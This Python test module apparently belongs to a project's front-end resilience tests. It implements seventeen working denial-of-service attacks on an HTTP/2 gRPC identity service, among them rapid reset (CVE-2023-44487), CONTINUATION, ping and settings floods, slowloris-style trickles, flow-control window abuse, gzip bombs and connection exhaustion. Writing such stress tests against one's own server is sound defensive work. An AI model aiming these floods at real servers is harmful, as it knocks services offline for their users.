"""Peers that attack, each on connections of its own, until they are cancelled."""

import asyncio
import zlib
from collections.abc import Callable, Coroutine
from contextlib import suppress
from typing import Any, Final, TypeAlias

from tests.front_attacks.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_BYTES_MAX,
    WINDOW_UPDATE,
    block,
    call,
    call_headers,
    frame,
    greeting,
    message,
)
from utterson.v1 import identifier_pb2, identity_service_pb2

Attack: TypeAlias = Callable[[str, int], Coroutine[Any, Any, None]]
Talk: TypeAlias = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Coroutine[Any, Any, None]]

IDENTIFY: Final = "/utterson.v1.IdentityService/Identify"
BATCH_RESOLVE: Final = "/utterson.v1.IdentityService/BatchResolve"
STREAM_RESOLVE: Final = "/utterson.v1.IdentityService/StreamResolve"
# What attackers call, and what the others do: a workspace that is busy is no matter of the front.
ATTACKED: Final = "attacked"
WORKSPACE: Final = "bystanders"
# Streams that a connection may have under way.
STREAMS: Final = 1000
_CANCEL: Final = (8).to_bytes(4)


def identify(user: str, workspace: str = ATTACKED) -> bytes:
    """Write a call that creates a profile."""
    identifier = identifier_pb2.Identifier(type="user_id", value=user)
    return identity_service_pb2.IdentifyRequest(workspace=workspace, identifiers=[identifier]).SerializeToString()


async def again(host: str, port: int, connections: int, talk: Talk) -> None:
    """Talk on so many connections at once, each opened anew when the server closes it."""

    async def one() -> None:
        while True:
            with suppress(OSError, EOFError):
                reader, writer = await asyncio.open_connection(host, port)
                try:
                    await talk(reader, writer)
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(connections)))


async def drained(reader: asyncio.StreamReader) -> None:
    """Read until the server closes."""
    while await reader.read(65536):
        pass


async def flood(host: str, port: int, connections: int, first: bytes, chunk: Callable[[int], bytes]) -> None:
    """Send chunk after chunk as fast as the server takes them."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reading = asyncio.create_task(drained(reader))
        try:
            writer.write(first)
            number = 0
            while not reading.done():
                writer.write(chunk(number))
                await writer.drain()
                await asyncio.sleep(0)
                number += 1
        finally:
            reading.cancel()

    await again(host, port, connections, talk)


async def held(host: str, port: int, connections: int, sent: bytes, trickle: bytes, *, reads: bool = True) -> None:
    """Send something, then a little every tenth of a second, for as long as the server lets it."""

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reading = asyncio.create_task(drained(reader) if reads else asyncio.sleep(3600))
        try:
            writer.write(sent)
            place = 0
            while not reading.done() and not writer.transport.is_closing():
                await asyncio.sleep(0.1)
                writer.write(trickle[place : place + 1])
                place += 1
        finally:
            reading.cancel()

    await again(host, port, connections, talk)


async def rapid_reset(host: str, port: int) -> None:
    """Call and cancel at once, without end (CVE-2023-44487)."""

    def chunk(number: int) -> bytes:
        first = 2 * (number * 200) + 1
        return b"".join(
            call(stream, IDENTIFY, message(identify(f"reset-{number}-{stream}")))
            + frame(RST_STREAM, 0, stream, _CANCEL)
            for stream in range(first, first + 400, 2)
        )

    await flood(host, port, 4, greeting(), chunk)


async def continuation_flood(host: str, port: int) -> None:
    """Headers that never end."""
    first = greeting() + frame(HEADERS, 0, 1, call_headers(IDENTIFY))
    await flood(host, port, 4, first, lambda _: frame(CONTINUATION, 0, 1, block(("a", "b"))) * 500)


async def ping_flood(host: str, port: int) -> None:
    """Pings, all of which want an answer."""
    await flood(host, port, 4, greeting(), lambda _: frame(PING, 0, 0, bytes(8)) * 1000)


async def settings_flood(host: str, port: int) -> None:
    """Settings, all of which want to be acknowledged."""
    await flood(host, port, 4, greeting(), lambda _: frame(SETTINGS, 0, 0) * 1000)


async def empty_frames(host: str, port: int) -> None:
    """A body of frames without a byte."""
    first = greeting() + frame(HEADERS, END_HEADERS, 1, call_headers(IDENTIFY))
    await flood(host, port, 4, first, lambda _: frame(DATA, 0, 1) * 1000)


async def slow_headers(host: str, port: int) -> None:
    """Headers of which a byte comes now and then (slowloris)."""
    headers = call_headers(IDENTIFY)
    begun = greeting() + (len(headers)).to_bytes(3) + bytes((HEADERS, END_HEADERS)) + (1).to_bytes(4)
    await held(host, port, 500, begun, headers)


async def slow_bodies(host: str, port: int) -> None:
    """Many messages of which a byte comes now and then."""
    body = message(identify("slow"))
    opened = b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, call_headers(IDENTIFY)) for number in range(STREAMS))
    dribble = b"".join(
        frame(DATA, 0, 2 * number + 1, body[place : place + 1])
        for place in range(len(body) - 1)
        for number in range(STREAMS)
    )

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reading = asyncio.create_task(drained(reader))
        writer.write(greeting() + opened)
        for start in range(0, len(dribble), 1000):
            writer.write(dribble[start : start + 1000])
            await asyncio.sleep(0.05)
        await reading

    await again(host, port, 4, talk)


async def announced(host: str, port: int) -> None:
    """A thousand streams of each connection announce 32 MB and send nothing of it."""
    huge = b"\0" + (32 * 1024 * 1024).to_bytes(4)
    paths = (IDENTIFY, STREAM_RESOLVE)
    opened = b"".join(call(2 * number + 1, paths[number % 2], huge, end=False) for number in range(STREAMS))
    await held(host, port, 50, greeting() + opened, b"")


async def answers_without_window(host: str, port: int) -> None:
    """Ask for much and leave no window for the answers."""
    await _unread(host, port, 0, reads=True)


async def answers_never_read(host: str, port: int) -> None:
    """Ask for much, open the largest windows, and never read."""
    await _unread(host, port, WINDOW_BYTES_MAX, reads=False)


async def _unread(host: str, port: int, window_bytes: int, *, reads: bool) -> None:
    one = identity_service_pb2.BatchResolveRequest()
    for number in range(500):
        one.calls.add().identify.ParseFromString(identify(f"unread-{number}"))
    asked = b"".join(call(2 * number + 1, BATCH_RESOLVE, message(one.SerializeToString())) for number in range(50))
    window = frame(WINDOW_UPDATE, 0, 0, (2**30).to_bytes(4))
    await held(host, port, 8, greeting(window_bytes) + window + asked, b"", reads=reads)


async def gzip_bombs(host: str, port: int) -> None:
    """Thirty megabytes of nothing in thirty kilobytes, again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = message(packer.compress(bytes(31 * 1024 * 1024)) + packer.flush(), compressed=True)
    packed = (("grpc-encoding", "gzip"),)

    def chunk(number: int) -> bytes:
        first = 2 * (number * 10) + 1
        window = frame(WINDOW_UPDATE, 0, 0, (100_000).to_bytes(4))
        return window + b"".join(call(stream, IDENTIFY, bomb, *packed) for stream in range(first, first + 20, 2))

    await flood(host, port, 4, greeting(), chunk)


async def refused_calls(host: str, port: int) -> None:
    """Messages of a thousand calls of two bytes each, all refused, and nobody takes the answers."""
    many = message(b"\x12\x08attacked" + b"\x1a\0" * 1000)
    asked = b"".join(call(2 * number + 1, STREAM_RESOLVE, many * 17, end=False) for number in range(100))
    window = frame(WINDOW_UPDATE, 0, 0, (2**30).to_bytes(4))
    await held(host, port, 2, greeting(0) + window + asked, b"")


async def windows_that_overflow(host: str, port: int) -> None:
    """Windows greater than a window may be."""
    over = frame(WINDOW_UPDATE, 0, 0, WINDOW_BYTES_MAX.to_bytes(4)) * 2
    await flood(host, port, 4, greeting(), lambda _: over)


async def garbage(host: str, port: int) -> None:
    """Bytes that are no HTTP/2."""
    await flood(host, port, 8, b"\x16\x03\x01\x02\0", lambda number: bytes((number % 251,)) * 1000)


async def http_1(host: str, port: int) -> None:
    """Requests of HTTP/1.1."""
    await flood(host, port, 8, b"", lambda _: b"GET / HTTP/1.1\r\nhost: attack\r\n\r\n")


async def idle_connections(host: str, port: int) -> None:
    """More connections than the server takes, which greet, answer nothing and call nothing."""
    await held(host, port, 6000, greeting() + frame(SETTINGS, ACK, 0), b"")


async def many_streams(host: str, port: int) -> None:
    """Streams that are opened, one after the other, and never ended."""

    def chunk(number: int) -> bytes:
        first = 2 * (number * 100) + 1
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, call_headers(STREAM_RESOLVE)) for stream in range(first, first + 200, 2)
        )

    await flood(host, port, 4, greeting(), chunk)


PLAIN_ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        continuation_flood,
        ping_flood,
        settings_flood,
        empty_frames,
        slow_headers,
        slow_bodies,
        announced,
        answers_without_window,
        answers_never_read,
        gzip_bombs,
        refused_calls,
        windows_that_overflow,
        garbage,
        http_1,
        many_streams,
        idle_connections,
    )
}
